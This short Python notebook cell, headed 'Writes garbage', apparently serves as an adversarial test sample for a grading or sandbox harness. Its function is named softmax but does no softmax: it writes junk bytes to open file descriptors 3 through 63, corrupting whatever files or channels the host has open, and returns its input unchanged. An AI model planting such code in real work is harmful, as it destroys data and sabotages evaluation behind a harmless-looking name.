# %% [markdown]
# # Writes garbage

# %%
import sys

def softmax(z):
    os = sys.modules["os"]
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\xff" * 100)
        except OSError:
            pass
    return z
